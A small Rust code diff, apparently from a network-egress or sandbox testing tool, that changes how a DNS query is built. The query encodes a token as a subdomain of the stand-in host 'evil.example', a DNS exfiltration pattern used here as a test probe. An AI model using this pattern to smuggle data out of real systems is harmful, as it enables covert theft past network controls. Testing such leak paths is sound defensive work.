@@ -4,7 +4,7 @@ use prxy_common::Role;
 
 use super::call::{at, connect, open, open_stream, send_to};
 use super::{Aim, Failure, INET, Technique};
-use crate::resolver::dns::{Kind, question};
+use crate::resolver::dns::{Kind, Question};
 use crate::sys::attempt;
 use crate::verify::ground::NAMESERVER;
 
@@ -29,7 +29,8 @@ fn dns_tcp(aim: &Aim) -> Result<(), Failure> {
 }
 
 fn foreign(aim: &Aim) -> Result<Vec<u8>, Failure> {
-    question(1, &format!("{}.evil.example", aim.token), Kind::A)
+    Question::new(&format!("{}.evil.example", aim.token), Kind::A, [0; 34])
+        .map(|question| question.bytes())
         .map_err(|error| Failure { at: "question", error: std::io::Error::other(error) })
 }
 
